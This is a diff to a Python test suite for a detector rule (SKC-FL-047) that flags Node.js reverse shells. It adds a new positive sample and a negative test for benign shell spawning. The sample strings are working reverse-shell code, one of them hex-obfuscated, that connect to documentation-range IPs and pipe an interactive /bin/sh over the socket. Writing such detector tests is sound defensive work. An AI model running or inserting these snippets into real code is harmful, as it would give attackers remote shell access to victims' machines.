@@ -159,6 +159,12 @@ REVERSE_SHELLS = [
     "const sock = require(h('6e6574'))[h('636f6e6e656374')](4444, h('3139382e35312e3130302e3931'));\n"
     "sock.on('connect', () => {\n  const sh = require(h('6368696c645f70726f63657373'))[h('737061776e')](h('2f62696e2f7368'), ['-i']);\n"
     "  sock.pipe(sh.stdin);\n  sh.stdout.pipe(sock);\n});\n",
+    # the shell chosen from the environment with a fallback, inside a class's methods
+    "const net = require('net');\nconst { spawn } = require('child_process');\nclass Relay {\n"
+    "  open() { this.sock = net.connect({ host: '198.51.100.77', port: 7443 }); }\n"
+    "  control() {\n    const helper = spawn(process.env.SHELL || '/bin/sh', ['-i'], { detached: true });\n"
+    "    helper.stdout.on('data', (b) => this.sock.write(b));\n"
+    "    this.sock.on('data', (buf) => helper.stdin.write(buf));\n  }\n}\n",
 ]
 
 
@@ -172,6 +178,15 @@ def test_a_local_connection_and_a_git_child_are_not_a_reverse_shell() -> None:
         "const net = require('net');\nconst { spawn } = require('child_process');\n"
         "const c = net.connect(5173, 'localhost');\nconst git = spawn('git', ['status']);\n"
         "git.stdout.pipe(process.stdout);\n"
+    )
+    assert "SKC-FL-047" not in _rules(text)
+
+
+def test_a_shell_run_with_a_command_string_from_the_environment_is_not_a_reverse_shell() -> None:
+    text = (
+        "const net = require('net');\nconst { spawn } = require('child_process');\n"
+        "const c = net.connect(443, 'api.github.com');\n"
+        "spawn(process.env.SHELL || '/bin/sh', ['-c', 'npm test'], { stdio: 'inherit' });\n"
     )
     assert "SKC-FL-047" not in _rules(text)
 
